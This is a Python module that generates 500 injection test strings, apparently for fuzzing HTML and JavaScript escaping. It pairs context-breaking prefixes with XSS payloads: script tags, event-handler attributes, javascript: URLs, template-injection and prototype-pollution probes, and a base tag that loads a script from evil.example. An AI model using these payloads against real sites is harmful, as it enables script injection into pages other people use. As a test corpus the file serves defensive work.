"""500 strings that try to run something, or to come back as another string."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
# Each tries to leave the place where it stands.
BREAKS = (
    "",
    "</script>",
    "</SCRIPT\t>",
    "</script/>",
    "<!--",
    "<!--<script>",
    "<!--<script></script>-->",
    "-->",
    "--!>",
    "]]>",
    "<![CDATA[",
    '"',
    "'",
    "`",
    '">',
    "'>",
    '"}]}',
    "\\",
    '\\"',
    "\\u003c/script\\u003e",
    "&lt;/script&gt;",
    "&#60;/script&#62;",
    "\u2028",
    "\u2029",
    "\r\n",
)
# Each tries to run once it is out.
RUNS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<style onload={RUN}></style>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<body onload="{RUN}"><input autofocus onfocus="{RUN}">',
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    f";{RUN};//",
    f"${{{RUN}}}",
    f"{{{{ {RUN} }}}}{{% print(1) %}}",
    f"javascript:{RUN}",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f'<base href="//evil.example/"><script src="/x.js"></script>{RUN}',
    f"<template><script>{RUN}</script></template>",
    "__proto__",
    "\x00\x01\x0b\x0c\x1b\x7f\x85\ufeff\ufffe",
    "\ud800 \udfff \udc00\ud800",
    "😀 ﷽ Z̵a̷l̸g̵o̷ \u202eright to left\u202c 中文",
    "9007199254740993 1e400 NaN undefined",
)
STRINGS = [first + second for first, second in product(BREAKS, RUNS)]
assert len(STRINGS) == len(set(STRINGS)) == 500
